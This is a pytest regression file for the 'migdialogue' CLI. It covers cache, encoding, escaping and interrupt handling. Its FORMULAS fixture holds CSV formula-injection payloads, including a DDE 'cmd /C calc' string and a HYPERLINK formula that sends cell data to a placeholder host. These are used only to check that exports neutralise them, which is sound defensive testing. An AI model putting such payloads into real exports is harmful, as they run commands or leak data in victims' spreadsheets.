"""Issue 26: the defects a third hostile battery found, each through the installed ``migdialogue``.

As in test_defects.py, every test runs the console script (or the package as installed
elsewhere) as a real process; ``MIGDIALOGUE_TEST_EXE`` runs them against another installation,
which is how each was seen to fail before its fix.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

import migdialogue
from migdialogue import outfile

from . import tools
from .test_defects import EXE, out_json, run
from .test_validate import GOOD_EXAMPLE

GiB = 1024**3
JORDAN = "jordan-garment-collective-agreement-2022"
ODD = "C#1?x=%41 100%"  # a fragment, a query and an escape, were the path read as a URI


@pytest.fixture
def mine(tmp_path: Path) -> Path:
    path = tmp_path / "mine.yaml"
    path.write_text(GOOD_EXAMPLE, encoding="utf-8")
    return path


def _entries(cache: Path) -> list[Path]:
    return sorted(p for p in cache.glob("dataset-*.db") if p.is_file() and not p.is_symlink())


# -- 1. a path with '#', '?' or '%' in an SQLite URI ------------------------------------------------


def test_1_installed_under_a_folder_named_with_uri_characters(tmp_path: Path) -> None:
    """The package installed under ``C#1?x=%41 100%/`` (a venv under ~/C#/): the shipped store opens."""
    site = tmp_path / ODD / "site-packages"
    shutil.copytree(
        Path(migdialogue.__file__).parent, site / "migdialogue", ignore=shutil.ignore_patterns("__pycache__")
    )
    env = {k: v for k, v in os.environ.items() if k not in ("MIGDIALOGUE_DATA", "MIGDIALOGUE_DEBUG")}
    env["PYTHONPATH"] = str(site)
    probe = "import migdialogue, sys; sys.stdout.write(migdialogue.__file__)"
    where = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, env=env, timeout=60)
    assert where.stdout.startswith(str(site)), where.stderr
    result = subprocess.run(
        [sys.executable, "-m", "migdialogue", "country", "Jordan", "--json"],
        capture_output=True,
        text=True,
        env=env,
        timeout=60,
    )
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["country"]["name"] == "Jordan"


def test_1_a_cache_folder_named_with_uri_characters_is_read_not_rebuilt(tmp_path: Path, mine: Path) -> None:
    cache = tmp_path / ODD
    env = {"MIGDIALOGUE_CACHE_DIR": str(cache)}
    assert out_json("show", "my-case", "--json", "--data", str(mine), env=env)["record"]["id"] == "my-case"
    (entry,) = _entries(cache)
    built = entry.stat().st_ino
    assert out_json("show", "my-case", "--json", "--data", str(mine), env=env)["record"]["id"] == "my-case"
    assert _entries(cache) == [entry] and entry.stat().st_ino == built, "the entry was built again"


# -- 2. a cache entry that is a symbolic link ----------------------------------------------------------


def test_2_a_link_named_as_an_entry_is_replaced_never_written_through(tmp_path: Path, mine: Path) -> None:
    cache = tmp_path / "cache"
    env = {"MIGDIALOGUE_CACHE_DIR": str(cache)}
    out_json("show", "my-case", "--json", "--data", str(mine), env=env)
    (entry,) = _entries(cache)
    precious = tmp_path / "thesis.tex"
    precious.write_text("three years of work\n", encoding="utf-8")
    entry.unlink()
    entry.symlink_to(precious)
    assert out_json("show", "my-case", "--json", "--data", str(mine), env=env)["record"]["id"] == "my-case"
    assert precious.read_text(encoding="utf-8") == "three years of work\n"
    assert not entry.is_symlink() and _entries(cache) == [entry]


def test_2_a_link_to_another_entry_is_not_read_through(tmp_path: Path, mine: Path) -> None:
    """A link to a valid entry of another dataset: never read as this one's, never touched."""
    cache = tmp_path / "cache"
    env = {"MIGDIALOGUE_CACHE_DIR": str(cache)}
    other = tmp_path / "other.yaml"
    other.write_text(GOOD_EXAMPLE.replace("my-case", "other-case"), encoding="utf-8")
    out_json("show", "other-case", "--json", "--data", str(other), env=env)
    (elsewhere,) = _entries(cache)
    kept = tmp_path / "kept.db"
    elsewhere.rename(kept)
    before = kept.stat()
    out_json("show", "my-case", "--json", "--data", str(mine), env=env)
    (entry,) = _entries(cache)
    entry.unlink()
    entry.symlink_to(kept)
    assert out_json("show", "my-case", "--json", "--data", str(mine), env=env)["record"]["id"] == "my-case"
    after = kept.stat()
    assert (after.st_mtime_ns, after.st_size) == (before.st_mtime_ns, before.st_size)
    assert not entry.is_symlink()


# -- 5. temporary files of runs that died ----------------------------------------------------------


def _many_examples(path: Path, count: int) -> Path:
    """A JSON Lines dataset of ``count`` examples, large enough that its first run takes a while."""
    with open(path, "w", encoding="utf-8") as out:
        for i in range(count):
            record = {
                "collection": "examples",
                "id": f"case-{i}",
                "title": f"Generated case {i} on recruitment fees and domestic work",
                "summary": "Workers, employers and the ministry agreed on fair recruitment. " * 3,
                "countries": ["Jordan"],
                "region": ["arab-states"],
                "level": "national",
                "dialogue_type": "tripartite",
                "theme": "policy-formulation",
                "years": [2000 + i % 25],
                "sectors": [],
                "actors": [],
                "challenges": ["gender"],
                "sources": [44],
            }
            out.write(json.dumps(record) + "\n")
    return path


def _temporaries(cache: Path) -> list[Path]:
    return sorted(p for p in cache.iterdir() if outfile.is_temporary(p.name))


def _dead_pid() -> int:
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait(timeout=60)
    return child.pid


@tools.LINUX_ONLY  # SIGKILL mid-build and process numbers as this test reads them
def test_5_a_first_run_killed_leaves_a_temporary_file_the_next_build_removes(tmp_path: Path, mine: Path) -> None:
    cache = tmp_path / "cache"
    env = {k: v for k, v in os.environ.items() if k not in ("MIGDIALOGUE_DATA", "MIGDIALOGUE_DEBUG")}
    env["MIGDIALOGUE_CACHE_DIR"] = str(cache)
    big = _many_examples(tmp_path / "big.jsonl", 4000)
    killed = subprocess.Popen([EXE, "list", "--json", "--data", str(big)], stdout=subprocess.DEVNULL, env=env)
    deadline = time.monotonic() + 60
    while not (cache.is_dir() and _temporaries(cache)) and killed.poll() is None and time.monotonic() < deadline:
        time.sleep(0.005)
    killed.send_signal(signal.SIGKILL)
    killed.wait(timeout=60)
    (left,) = _temporaries(cache)
    assert f"-{killed.pid}-" in left.name and _entries(cache) == []

    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)"])
    try:
        live = cache / f".migdialogue-{outfile.host_id()}-{sleeper.pid}-abcdefgh.tmp"
        elsewhere = cache / f".migdialogue-0123abcd-{_dead_pid()}-abcdefgh.tmp"  # another machine's
        fresh_unnamed, old_unnamed = cache / ".migdialogue-freshabc.tmp", cache / ".migdialogue-oldabcde.tmp"
        for path in (live, elsewhere, fresh_unnamed, old_unnamed):
            path.write_bytes(b"x" * 100)
        a_day_ago = time.time() - 86_400 - 60
        os.utime(old_unnamed, (a_day_ago, a_day_ago))
        assert out_json("show", "my-case", "--json", "--data", str(mine), env=env)["record"]["id"] == "my-case"
        assert _temporaries(cache) == sorted([live, elsewhere, fresh_unnamed])
    finally:
        sleeper.kill()
        sleeper.wait(timeout=60)


def test_5_every_file_of_the_cache_counts_in_its_size_bound(tmp_path: Path, mine: Path) -> None:
    """A 5 GiB entry another live process is building and a 4 GiB entry: with the new one, over the
    8 GiB bound, so the older entry goes (the one being built is never removed)."""
    cache = tmp_path / "cache"
    cache.mkdir()
    older = cache / f"dataset-{'b' * 16}-{'2' * 32}.db"
    building = cache / f".migdialogue-{outfile.host_id()}-{os.getpid()}-abcdefgh.tmp"
    for path, size in ((older, 4 * GiB), (building, 5 * GiB)):
        with open(path, "wb") as f:
            f.truncate(size)  # sparse: no disk used
    an_hour_ago = time.time() - 3600
    os.utime(older, (an_hour_ago, an_hour_ago))
    out_json("show", "my-case", "--json", "--data", str(mine), env={"MIGDIALOGUE_CACHE_DIR": str(cache)})
    assert not older.exists() and building.stat().st_size == 5 * GiB
    assert len(_entries(cache)) == 1


# -- 3. formula injection in CSV (CWE-1236); 9. control characters round-trip ------------------------

FORMULAS = {
    "title": '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
    "summary": "+cmd|' /C calc'!A0",
    "sectors": ["-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\tTAB=1", "'=quoted already", "''-twice"],
    "actors": ["\r=CR first", "-", "plain", "-3.5"],
    "notes": ["=1+1", "ends with =", "\\x07 is text, not a bell", "a bell \x07, an escape \x1b[31mred\x1b[0m"],
    "quote": {"text": "=cmd", "by": "@someone"},
}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _hostile_record(**fields: object) -> dict[str, object]:
    record: dict[str, object] = {
        "id": "my-case",
        "title": "A case",
        "summary": "Something the team coded.",
        "countries": ["Jordan"],
        "region": ["arab-states"],
        "level": "national",
        "dialogue_type": "tripartite",
        "theme": "policy-formulation",
        "years": [2021],
        "sectors": [],
        "actors": [],
        "challenges": ["gender"],
        "sources": [44],
    }
    record.update(fields)
    return record


def _jsonl(path: Path, *records: dict[str, object]) -> Path:
    path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    return path


def _cells(text: str) -> list[list[str]]:
    import csv
    import io

    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    "args",
    [
        ["export", "--format", "csv"],  # the export writer
        ["list", "--format", "csv"],  # a listing
        ["show", "my-case", "--format", "csv"],  # a document
        ["search", "hyperlink click", "--format", "csv"],
    ],
)
def test_3_no_csv_writer_leaves_a_cell_a_spreadsheet_would_run(tmp_path: Path, args: list[str]) -> None:
    data = _jsonl(tmp_path / "mine.jsonl", _hostile_record(**FORMULAS))
    result = subprocess.run(
        [EXE, *args, "--data", str(data)], capture_output=True, text=True, timeout=120, env=_env(), encoding="utf-8"
    )
    assert result.returncode == 0, result.stderr
    cells = [c for row in _cells(result.stdout) for c in row]
    assert any(c.startswith("'=") for c in cells), "the hostile record is not in the output"
    for c in cells:
        assert not c.startswith(DANGEROUS) or _is_number(c), c
        assert "\x1b" not in c and "\x07" not in c, c


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _env() -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if k not in ("MIGDIALOGUE_DATA", "MIGDIALOGUE_DEBUG")}
    env.update({"NO_COLOR": "1", "COLUMNS": "100"})
    return env


def test_3_9_the_csv_round_trip_gives_the_same_records(tmp_path: Path) -> None:
    """What the CSV writer neutralised and escaped, the CSV reader gives back: formulas, quotes,
    control characters, a literal backslash escape, the bundled examples (the whole export)."""
    bell = _hostile_record(
        id="my-bell",
        title="a bell \x07, an escape \x1b[31mred\x1b[0m, a carriage return\r, an override \u202e",
        summary="\\x07 is text, not a bell; so is C:\\xampp\\u202e; and \\\x07",
    )
    mine = _jsonl(tmp_path / "mine.jsonl", _hostile_record(**FORMULAS), bell)
    before = out_json("export", "--format", "json", "--data", str(mine))
    exported = tmp_path / "examples.csv"
    result = subprocess.run(
        [EXE, "export", "--format", "csv", "--output", str(exported), "--data", str(mine)],
        capture_output=True,
        text=True,
        timeout=120,
        env=_env(),
    )
    assert result.returncode == 0, result.stderr
    raw = exported.read_bytes()
    assert b"\x1b" not in raw and b"\x07" not in raw and b"\r" not in raw and "\u202e".encode() not in raw
    after = out_json("export", "--format", "json", "--data", str(exported))
    assert after["examples"] == before["examples"]
    back = {e["id"]: e for e in after["examples"]}["my-bell"]
    assert (back["title"], back["summary"]) == (bell["title"], bell["summary"])


# -- 7. an encoding a format cannot write ----------------------------------------------------------


@pytest.mark.parametrize("encoding", ["ascii", "cp1252"])
def test_7_yaml_on_a_narrow_stdout_is_the_same_data_with_escapes(tmp_path: Path, encoding: str) -> None:
    import yaml

    mine = _jsonl(tmp_path / "mine.jsonl", _hostile_record(title="\u5de5\u4f1a \U0001f91d Stockholms Byggm\u00e4stare"))
    wide = run("export", "--format", "yaml", "--data", str(mine))
    narrow = run("export", "--format", "yaml", "--data", str(mine), env={"PYTHONIOENCODING": encoding})
    assert narrow.returncode == 0, narrow.stderr
    assert narrow.stdout.count("?") == wide.stdout.count("?") and narrow.stdout.isascii()
    assert yaml.safe_load(narrow.stdout) == yaml.safe_load(wide.stdout)


@pytest.mark.parametrize(
    ("args", "encoding", "char"),
    [
        (["export", "--format", "csv", "--data", "MINE"], "cp1252", "U+5DE5"),
        (["list", "--format", "csv", "--data", "MINE"], "cp1252", "U+5DE5"),
        (["cite", JORDAN, "--style", "bibtex"], "ascii", "U+"),
        (["cite", JORDAN, "--style", "ris"], "ascii", "U+"),
    ],
)
def test_7_csv_bibtex_or_ris_on_a_stdout_that_cannot_take_it_is_an_error(
    tmp_path: Path, args: list[str], encoding: str, char: str
) -> None:
    mine = _jsonl(tmp_path / "mine.jsonl", _hostile_record(title="\u5de5\u4f1a \U0001f91d"))
    result = subprocess.run(
        [EXE, *(str(mine) if a == "MINE" else a for a in args)],
        capture_output=True,
        timeout=120,
        env={**_env(), "PYTHONIOENCODING": encoding},
    )
    assert result.returncode == 4 and result.stdout == b"", result.stderr
    expected = f"migdialogue: error: standard output's encoding ({encoding}) cannot write {char}"
    assert result.stderr.startswith(expected.encode()) and result.stderr.count(b"\n") == 1, result.stderr


def test_7_the_page_on_a_narrow_stdout_is_written_in_the_utf_8_it_declares() -> None:
    wide = subprocess.run([EXE, "export", "--format", "html"], capture_output=True, timeout=120, env=_env())
    narrow = subprocess.run(
        [EXE, "export", "--format", "html"],
        capture_output=True,
        timeout=120,
        env={**_env(), "PYTHONIOENCODING": "ascii"},
    )
    assert narrow.returncode == 0 and narrow.stdout == wide.stdout
    assert b'<meta charset="utf-8">' in narrow.stdout and "Byggm\u00e4stare".encode() in narrow.stdout


# -- 4. the page's related examples, computed once for all --------------------------------------------


def _related_on_page(page: str) -> dict[str, list[str]]:
    """Each example's related examples, as the page links them (their anchors' ids)."""
    import re

    found = {}
    for article in re.findall(r'<article class="record example".*?</article>', page, flags=re.S):
        ident = re.search(r'id="ex-([^"]+)"', article)
        block = re.search(r"<h4[^>]*>Related examples</h4><ul>(.*?)</ul>", article)
        assert ident is not None
        found[ident[1]] = re.findall(r'href="#ex-([^"]+)"', block[1]) if block else []
    return found


def test_4_the_page_links_the_examples_related_gives(tmp_path: Path) -> None:
    """The page's three related examples of each are `related -n 3`'s, for the brief's data and for
    400 examples that share every value with a hundred others or more (the page used to ask the
    store once per example: quadratic, 4,000 examples took a minute)."""
    many = tmp_path / "many.jsonl"
    import random

    rng = random.Random(26)
    records = []
    for i in range(400):
        records.append(
            _hostile_record(
                id=f"gen-{i:03d}",
                title=f"Generated {i}",
                countries=rng.sample(["Jordan", "Italy", "Qatar", "Spain"], rng.randint(0, 2)),
                region=[rng.choice(["arab-states", "europe-central-asia", "africa"])],
                level=rng.choice(["national", "sectoral", "local"]),
                theme=rng.choice(["policy-formulation", "collective-bargaining"]),
                sectors=rng.sample(["construction", "agriculture", "domestic work"], rng.randint(0, 2)),
                challenges=rng.sample(["gender", "informality", "discrimination"], rng.randint(0, 2)),
            )
        )
    _jsonl(many, *records)
    for data in ([], ["--data", str(many)]):
        page = tmp_path / "page.html"
        page.unlink(missing_ok=True)
        result = subprocess.run(
            [EXE, "export", "--format", "html", "--output", str(page), *data], capture_output=True, timeout=300
        )
        assert result.returncode == 0, result.stderr
        shown = _related_on_page(page.read_text(encoding="utf-8"))
        sample = sorted(shown)[:: max(1, len(shown) // 40)]  # every example would take a process each
        for ident in sample:
            expected = [r["id"] for r in out_json("related", ident, "-n", "3", "--json", *data)]
            assert shown[ident] == expected, ident


def test_4_blocks_beyond_the_bound_find_the_same_within_each(monkeypatch: pytest.MonkeyPatch) -> None:
    """Beyond RELATED_BLOCK examples they are compared block by block (linear time): each block's
    answer is the one the block alone gives."""
    from migdialogue import dataset, query

    examples = dataset.load().examples
    whole = query.related_among(examples)
    monkeypatch.setattr(query, "RELATED_BLOCK", 20)
    blocks = query.related_among(examples)
    ordered = sorted(examples, key=lambda e: e.key)
    for start in range(0, len(ordered), 20):
        alone = query.related_among(ordered[start : start + 20])
        assert all(blocks[e.id] == alone[e.id] for e in ordered[start : start + 20])
    assert blocks != whole


# -- 9. NULs and other control characters never reach the page ----------------------------------------


def test_9_a_nul_from_a_csv_cell_never_reaches_the_page(tmp_path: Path) -> None:
    mine = tmp_path / "mine.csv"
    row = _hostile_record(title="nul\x00here and a bell\x07", summary="del\x7f and c1\x85", sectors=["sec\x00tor"])
    header = list(row)
    import csv

    with open(mine, "w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(header)
        writer.writerow([json.dumps(v) if isinstance(v, list) else str(v) for v in row.values()])
    assert out_json("show", "my-case", "--json", "--data", str(mine))["record"]["title"] == "nul\x00here and a bell\x07"
    page = tmp_path / "page.html"
    result = subprocess.run(
        [EXE, "export", "--format", "html", "--output", str(page), "--data", str(mine)],
        capture_output=True,
        timeout=300,
    )
    assert result.returncode == 0, result.stderr
    raw = page.read_bytes()
    assert not any(b in raw for b in (b"\x00", b"\x07", b"\x7f", "\x85".encode())), "a control character on the page"
    assert "nul\ufffdhere and a bell\ufffd".encode() in raw
    from migdialogue.htmlpage import unpacked

    from .test_html_export import Parsed

    parsed = Parsed()
    parsed.feed(raw.decode("utf-8"))
    data = json.dumps(unpacked(parsed.json_text), ensure_ascii=False)  # what the page's script reads
    assert "sec\ufffdtor" in data  # a facet value the script shows
    assert not any(c in data for c in ("\\u0000", "\\u0007", "\x7f", "\x85")), "a control character in the data"


# -- 8. deep nesting in JSON, JSON Lines and CSV is a data error with its line --------------------------


def _nested(depth: int) -> str:
    return "[" * depth + "]" * depth


@pytest.mark.parametrize("depth", [100, 100_000])  # past MAX_DEPTH; past Python's own recursion limit
@pytest.mark.parametrize("kind", ["jsonl", "json", "csv"])
def test_8_deep_nesting_is_a_data_error_with_its_line(tmp_path: Path, kind: str, depth: int) -> None:
    good = json.dumps(_hostile_record(id="fine"))
    deep = json.dumps(_hostile_record()).replace('"actors": []', f'"actors": {_nested(depth)}')
    path = tmp_path / f"deep.{kind}"
    if kind == "jsonl":
        path.write_text(f"{good}\n{deep}\n", encoding="utf-8")
        line = 2
    elif kind == "json":
        path.write_text('{"examples": [\n' + good + ",\n" + deep + "\n]}\n", encoding="utf-8")
        line = 3
    else:
        if depth > 50_000:
            depth = 50_000  # Python's csv module refuses a cell over 131,072 characters
        import csv

        with open(path, "w", encoding="utf-8", newline="") as out:
            writer = csv.writer(out)
            writer.writerow(list(_hostile_record()))
            for ident, actors in (("fine", "[]"), ("my-case", _nested(depth))):
                cells = {k: json.dumps(v) if isinstance(v, list) else str(v) for k, v in _hostile_record().items()}
                writer.writerow({**cells, "id": ident, "actors": actors}.values())
        line = 3
    for args in (["validate", str(path)], ["list", "--data", str(path)]):
        result = run(*args)
        assert result.returncode == 3, result.stderr
        assert "Traceback" not in result.stderr and "internal error" not in result.stderr
        said = result.stdout if args[0] == "validate" else result.stderr
        assert f"deep.{kind}:{line}: " in said and "nested more than 64 levels deep" in said, said


# -- 6. cite: a footnote the user's dataset replaced says so in the citation itself ---------------------

HOSTILE_FOOTNOTE = "Our own {unbalanced} } note { with $x^2$ math, 100% & a_b #1 \\emph{x} ~tilde"


@pytest.fixture
def replaced_44(tmp_path: Path) -> Path:
    path = tmp_path / "sources.json"
    path.write_text(json.dumps({"sources": [{"number": 44, "citation": HOSTILE_FOOTNOTE}]}), encoding="utf-8")
    return path


@pytest.mark.parametrize("style", ["text", "bibtex", "ris", "csl-json"])
def test_6_a_replaced_footnote_is_marked_in_the_citation(replaced_44: Path, style: str) -> None:
    result = run("cite", JORDAN, "--style", style, "--data", str(replaced_44))
    assert result.returncode == 0, result.stderr
    marker = (
        "(your own dataset's text, not the brief's footnote)"
        if style == "text"
        else "(from your own dataset, which replaces the brief's footnote)"
    )
    text = json.loads(result.stdout)[0]["note"] if style == "csl-json" else " ".join(result.stdout.split())
    assert text.count(marker) == 1, text
    assert text.index(marker) > text.index("[44]") and text.index(marker) < text.index("[45]")
    unreplaced = run("cite", JORDAN, "--style", style)
    assert marker not in unreplaced.stdout


# -- 9. BibTeX and Markdown escaped for what BibTeX and pandoc read as syntax ---------------------------


def _bibtex_balanced(entry: str) -> bool:
    """Braces as BibTeX counts them (a backslash does not hide one): never below zero, zero at the end."""
    depth = 0
    for ch in entry:
        depth += {"{": 1, "}": -1}.get(ch, 0)
        if depth < 0:
            return False
    return depth == 0


def test_9_a_users_footnote_keeps_the_bibtex_entry_whole(replaced_44: Path, tmp_path: Path) -> None:
    from . import pandoc

    result = run("cite", JORDAN, "--style", "bibtex", "--data", str(replaced_44))
    assert result.returncode == 0, result.stderr
    assert _bibtex_balanced(result.stdout), result.stdout
    bib = tmp_path / "cite.bib"
    bib.write_text(result.stdout, encoding="utf-8")
    (item,) = json.loads(pandoc.run(pandoc.pandoc(), "-f", "bibtex", "-t", "csljson", str(bib)))
    note = item["note"].replace("\u2019", "'")
    # every character as the user wrote it, but the two braces that pair with none (pandoc drops
    # \textbraceleft, which LaTeX prints)
    assert "Our own {unbalanced}  note  with $x^2$ math, 100% & a_b #1 \\emph{x} ~tilde" in note, note


def test_9_markdown_shows_what_pandoc_would_read_as_math_or_citations(tmp_path: Path) -> None:
    from . import pandoc

    summary = "Costs $5 and $6; x~y~ and a^b^; {.cls} and @smith2020; &amp; stays"
    mine = _jsonl(tmp_path / "mine.jsonl", _hostile_record(summary=summary, title="1. Not a list"))
    result = run("show", "my-case", "--format", "markdown", "--data", str(mine))
    assert result.returncode == 0, result.stderr
    for reader in ("markdown", "gfm"):
        plain = pandoc.run(pandoc.pandoc(), "-f", reader, "-t", "plain", "--wrap=none", stdin=result.stdout)
        assert summary in plain, plain
        assert "1. Not a list" in plain


# -- 9. prose width clamped ------------------------------------------------------------------------------


def test_9_a_huge_columns_is_taken_as_a_thousand_on_a_terminal() -> None:
    """COLUMNS=99999 on a terminal that reports no size: Rich laid the brief out in the square of
    the width (minutes); the window is now at most 1,000 columns."""
    from .terminal import run_in_pty

    code, out = run_in_pty(["brief", "Jordan"], 0, env={"COLUMNS": "99999"})
    assert code == 0 and "Briefing note: Jordan" in out
    assert max(len(line) for line in out.splitlines()) <= 1000


# -- Ctrl-C while the program starts ------------------------------------------------------------------

_INTERRUPTED_AT = """
import os, signal, sys
signal.signal(signal.SIGINT, signal.SIG_IGN if sys.argv[2] == "ignored" else signal.default_int_handler)
AT = sys.argv[1]


class Interrupt:  # Ctrl-C at the moment this module is imported
    def find_spec(self, name, path=None, target=None):
        if name == AT:
            os.kill(os.getpid(), signal.SIGINT)
        return None


sys.meta_path.insert(0, Interrupt())
sys.argv = ["migdialogue", "country", "Jordan", "--json"]
from migdialogue.cli import main

main()
"""


@pytest.mark.parametrize(
    "module",
    [
        "typer",  # the CLI's modules loading
        "migdialogue.cli.commands",
        "migdialogue.query",  # a command running (imported when it is run)
    ],
)
def test_ctrl_c_while_starting_is_exit_130_without_a_traceback(module: str) -> None:
    result = subprocess.run(
        [sys.executable, "-c", _INTERRUPTED_AT, module, "terminal"], capture_output=True, timeout=60, env=_env()
    )
    assert result.returncode == 130 and result.stdout == b"", result.stderr.decode()
    assert result.stderr.strip() == b"", result.stderr.decode()  # a new line at most: never a traceback


def test_ctrl_c_ignored_by_a_background_job_is_still_ignored() -> None:
    result = subprocess.run(
        [sys.executable, "-c", _INTERRUPTED_AT, "typer", "ignored"], capture_output=True, timeout=60, env=_env()
    )
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["country"]["name"] == "Jordan"
